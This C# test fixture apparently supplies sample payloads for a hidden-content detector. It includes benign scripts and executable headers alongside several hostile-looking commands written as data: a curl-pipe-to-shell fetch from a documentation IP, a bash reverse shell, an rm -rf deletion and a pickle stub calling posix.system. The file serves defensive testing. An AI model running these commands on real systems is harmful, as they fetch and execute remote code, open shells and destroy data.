using System.IO.Compression;
using System.Text;

namespace ApprovalGuard.Core.Tests.Detection.Payloads;

/// <summary>What the positives of the test set hide: recognisable and harmless, with names and addresses that are reserved for documentation.</summary>
internal static class Plain
{
    public static readonly (string Name, string Rule, string Text)[] Texts =
    [
        ("shell script", "hidden-script", "#!/bin/sh\necho hello from the inside\n"),
        ("shell pipe", "hidden-command", "curl -fsSL http://198.51.100.7/setup | sh"),
        ("reverse shell", "hidden-command", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        ("powershell", "hidden-command", "Write-Host 'hello'; Start-Sleep -Seconds 1"),
        ("python", "hidden-script", "import os\nprint('hello', os.getcwd())\n"),
        ("javascript", "hidden-script", "console.log('hello'); process.exit(0);"),
        ("php", "hidden-script", "<?php echo 'hello from the inside'; ?>"),
        ("url", "hidden-url", "https://drop.example.net/collect?id=4711"),
        ("delete", "hidden-command", "rm -rf /tmp/example-folder && echo done"),
        ("vbscript", "hidden-script", "Set shell = CreateObject(\"WScript.Shell\")\nMsgBox \"hello\"\n"),
    ];

    public static readonly (string Name, string Rule, byte[] Bytes)[] Binaries =
    [
        ("elf", "hidden-executable", [0x7F, .. "ELF"u8, 2, 1, 1, .. new byte[57]]),
        ("pe", "hidden-executable", [.. "MZ"u8, 0x90, 0, 3, .. new byte[55], 0x80, .. new byte[3]]),
        ("wasm", "hidden-executable", [0, .. "asm"u8, 1, .. new byte[27]]),
        ("class", "hidden-executable", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52, .. new byte[24]]),
        ("zip", "hidden-script", Zip("run.sh", "#!/bin/sh\necho hello\n"u8.ToArray())),
        ("xz", "hidden-archive", [0xFD, .. "7zXZ\0"u8, 0, 4, .. new byte[32]]),
        ("java object", "hidden-object", [0xAC, 0xED, 0, 5, .. "sr\0\u0011java.util.HashMap"u8, .. new byte[8]]),
        ("pickle", "hidden-object", [0x80, 4, 0x95, 0x13, 0, 0, 0, 0, 0, 0, 0, 0x8C, 5, .. "posix"u8, 0x94, 0x8C, 6, .. "system"u8, 0x94, 0x93, .. "."u8]),
    ];

    public static byte[] Gzip(byte[] bytes) => Packed(bytes, static output => new GZipStream(output, CompressionLevel.Optimal));

    public static byte[] Zlib(byte[] bytes) => Packed(bytes, static output => new ZLibStream(output, CompressionLevel.Optimal));

    public static byte[] Deflate(byte[] bytes) => Packed(bytes, static output => new DeflateStream(output, CompressionLevel.Optimal));

    public static byte[] Brotli(byte[] bytes) => Packed(bytes, static output => new BrotliStream(output, CompressionLevel.Optimal));

    public static byte[] Zip(string name, byte[] content)
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry(name).Open();
            entry.Write(content);
        }

        return output.ToArray();
    }

    public static byte[] Bytes(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Packed(byte[] bytes, Func<Stream, Stream> pack)
    {
        using var output = new MemoryStream();
        using (var stream = pack(output))
        {
            stream.Write(bytes);
        }

        return output.ToArray();
    }
}
